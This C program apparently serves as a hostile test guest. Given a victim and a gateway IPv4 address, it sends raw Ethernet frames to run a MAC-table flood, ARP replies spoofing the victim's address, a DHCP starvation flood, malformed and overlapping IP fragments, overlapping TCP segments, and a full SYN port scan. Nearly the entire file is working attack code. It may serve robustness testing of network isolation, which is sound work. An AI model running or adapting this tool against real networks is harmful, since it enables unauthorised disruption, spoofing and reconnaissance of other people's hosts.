/* A guest that does what it should not, to the one whose IPv4 address it is given: hostile VICTIM GATEWAY. A line when each is done.
 *   macs       frames of random senders, to random stations, the victim's among them
 *   arp        questions for whatever address, and answers that claim the victim's
 *   dhcp       questions of random stations, and of its own, with random transactions
 *   fragments  firsts without rest, rests without first, overlapping and tiny ones
 *   segments   overlapping pieces of connections to the name server and to the victim
 *   scan       every port of the victim, from its own address */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

enum { FLOOD = 30000, PORTS = 65535, FRAME = 1514 };

static int raw;
static struct sockaddr_ll out;
static uint8_t own[6], victim_mac[6], gateway_mac[6], frame[FRAME];
static uint32_t self, victim, gateway;
static uint64_t seed = 20261122;

static uint32_t next(void) {
  seed ^= seed << 13;
  seed ^= seed >> 7;
  seed ^= seed << 17;
  return (uint32_t)(seed >> 16);
}

static void random_bytes(uint8_t *to, int count) {
  for (int i = 0; i < count; i++) to[i] = (uint8_t)next();
}

/* A full queue of the NIC is waited for: what is counted has been sent. */
static void emit(size_t length) {
  while (sendto(raw, frame, length < 60 ? 60 : length, 0, (struct sockaddr *)&out, sizeof out) < 0) {
    if (errno != ENOBUFS && errno != EAGAIN) {
      perror("send");
      exit(1);
    }
    usleep(100);
  }
}

static void ethernet(const uint8_t *to, const uint8_t *from, int type) {
  memset(frame, 0, sizeof frame);
  memcpy(frame, to, 6);
  memcpy(frame + 6, from, 6);
  frame[12] = (uint8_t)(type >> 8);
  frame[13] = (uint8_t)type;
}

static uint16_t sum(const uint8_t *bytes, int count, uint32_t start) {
  for (int i = 0; i < count; i++) start += i % 2 ? bytes[i] : (uint32_t)bytes[i] << 8;
  while (start >> 16) start = (start & 0xffff) + (start >> 16);
  return htons((uint16_t)~start);
}

/* The header in front of so many bytes; offset in units of 8, more: further fragments follow. */
static void internet(uint32_t from, uint32_t to, int protocol, int bytes, int offset, int more, int id) {
  struct iphdr header = {.ihl = 5, .version = 4, .ttl = 64, .protocol = (uint8_t)protocol, .saddr = from, .daddr = to};
  header.tot_len = htons((uint16_t)(20 + bytes));
  header.frag_off = htons((uint16_t)(offset | (more ? 0x2000 : 0)));
  header.id = htons((uint16_t)id);
  header.check = sum((uint8_t *)&header, 20, 0);
  memcpy(frame + 14, &header, 20);
}

static void segment(uint32_t to, const uint8_t *mac, int port, int source, uint32_t number, int flags, int bytes) {
  struct tcphdr tcp = {.source = htons((uint16_t)source), .dest = htons((uint16_t)port), .seq = htonl(number), .doff = 5};
  uint8_t around[12] = {[9] = 6, [10] = (uint8_t)((20 + bytes) >> 8), [11] = (uint8_t)(20 + bytes)};
  ethernet(mac, own, ETH_P_IP);
  internet(self, to, 6, 20 + bytes, 0, 0, (int)next());
  tcp.window = htons(1024);
  tcp.syn = flags & 1;
  tcp.ack = flags >> 1 & 1;
  memcpy(frame + 34, &tcp, 20);
  random_bytes(frame + 54, bytes);
  memcpy(around, &self, 4);
  memcpy(around + 4, &to, 4);
  around[8] = 0;
  uint32_t start = 0;
  for (int i = 0; i < 12; i += 2) start += (uint32_t)around[i] << 8 | around[i + 1];
  uint16_t check = sum(frame + 34, 20 + bytes, start);
  memcpy(frame + 34 + 16, &check, 2);
  emit((size_t)(54 + bytes));
}

static void macs(void) {
  for (int i = 0; i < FLOOD; i++) {
    uint8_t from[6], to[6];
    random_bytes(from, 6);
    random_bytes(to, 6);
    from[0] &= 0xfe;
    ethernet(i % 3 ? to : victim_mac, i % 5 ? from : own, i % 7 ? ETH_P_IP : (int)next() & 0xffff);
    internet(i % 2 ? self : next(), victim, 17, 26, 0, 0, i);
    emit(60);
  }
}

static void arp(void) {
  static const uint8_t everybody[] = {255, 255, 255, 255, 255, 255};
  for (int i = 0; i < FLOOD; i++) {
    uint8_t fixed[] = {0, 1, 8, 0, 6, 4, 0, (uint8_t)(1 + i % 2)};
    uint32_t asked = (self & htonl(0xfffff000)) | htonl(next() & 0xfff);
    ethernet(everybody, own, ETH_P_ARP);
    memcpy(frame + 14, fixed, 8);
    memcpy(frame + 22, own, 6);
    memcpy(frame + 28, i % 2 ? &victim : &self, 4);
    memcpy(frame + 38, &asked, 4);
    emit(60);
  }
}

static void dhcp(void) {
  static const uint8_t everybody[] = {255, 255, 255, 255, 255, 255};
  static const uint8_t options[] = {0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255};
  for (int i = 0; i < FLOOD; i++) {
    struct udphdr udp = {.source = htons(68), .dest = htons(67), .len = htons(8 + 248)};
    uint8_t station[6];
    random_bytes(station, 6);
    ethernet(everybody, i % 2 ? own : station, ETH_P_IP);
    internet(0, INADDR_NONE, 17, 8 + 248, 0, 0, i);
    memcpy(frame + 34, &udp, 8);
    frame[42] = 1;
    frame[43] = 1;
    frame[44] = 6;
    random_bytes(frame + 46, 4);
    memcpy(frame + 42 + 28, i % 3 ? station : own, 6);
    memcpy(frame + 42 + 240 - 4, options, sizeof options);
    emit(42 + 248);
  }
}

static void fragments(void) {
  for (int i = 0; i < FLOOD; i++) {
    int shapes[][3] = {{0, 1, 64}, {8, 0, 64}, {1, 1, 16}, {0, 1, 8}, {8189, 1, 1400}, {2, 0, 24}};
    int *shape = shapes[i % 6];
    ethernet(i % 2 ? victim_mac : gateway_mac, own, ETH_P_IP);
    internet(self, i % 2 ? victim : gateway, i % 4 < 2 ? 6 : 17, shape[2], shape[0], shape[1], i / 12);
    random_bytes(frame + 34, shape[2]);
    emit((size_t)(34 + shape[2]));
  }
}

static void segments(void) {
  for (int i = 0; i < FLOOD; i++) {
    int to_gateway = i % 2, source = 1024 + i / 64;
    uint32_t number = 1000 + (next() & 0xff);
    segment(to_gateway ? gateway : victim, to_gateway ? gateway_mac : victim_mac, to_gateway ? 53 : 5432, source, number,
        i % 64 < 2 ? 1 : 2, i % 64 < 2 ? 0 : (int)(next() & 0x3ff));
  }
}

static void scan(void) {
  for (int port = 1; port <= PORTS; port++) segment(victim, victim_mac, port, 40000, next(), 1, 0);
}

/* The kernel asks for the station once it has something to send there. */
static int station(uint32_t address, uint8_t *mac) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = address};
  int wire = socket(AF_INET, SOCK_DGRAM, 0);
  struct arpreq_like {
    struct sockaddr protocol, hardware;
    int flags;
    struct sockaddr mask;
    char device[16];
  } question = {.device = "eth0"};
  for (int tries = 0; tries < 200; tries++) {
    sendto(wire, "", 1, 0, (struct sockaddr *)&to, sizeof to);
    usleep(10000);
    memcpy(&question.protocol, &to, sizeof to);
    if (ioctl(wire, SIOCGARP, &question) == 0 && (question.flags & 2)) {
      memcpy(mac, question.hardware.sa_data, 6);
      close(wire);
      return 1;
    }
  }
  return 0;
}

static void look(void) {
  struct ifreq nic = {0};
  raw = socket(AF_PACKET, SOCK_RAW, 0);
  int wire = socket(AF_INET, SOCK_DGRAM, 0);
  strcpy(nic.ifr_name, "eth0");
  ioctl(wire, SIOCGIFHWADDR, &nic);
  memcpy(own, nic.ifr_hwaddr.sa_data, 6);
  ioctl(wire, SIOCGIFADDR, &nic);
  self = ((struct sockaddr_in *)&nic.ifr_addr)->sin_addr.s_addr;
  out = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};
  close(wire);
}

int main(int count, char **arguments) {
  struct attack {
    const char *name;
    void (*run)(void);
  } attacks[] = {{"macs", macs}, {"arp", arp}, {"dhcp", dhcp}, {"fragments", fragments}, {"segments", segments}, {"scan", scan}};
  if (count != 3) return 64;
  victim = inet_addr(arguments[1]);
  gateway = inet_addr(arguments[2]);
  look();
  if (!station(victim, victim_mac) || !station(gateway, gateway_mac)) return 9;
  for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
    attacks[i].run();
    printf("done: %s\n", attacks[i].name);
    fflush(stdout);
  }
  return 0;
}
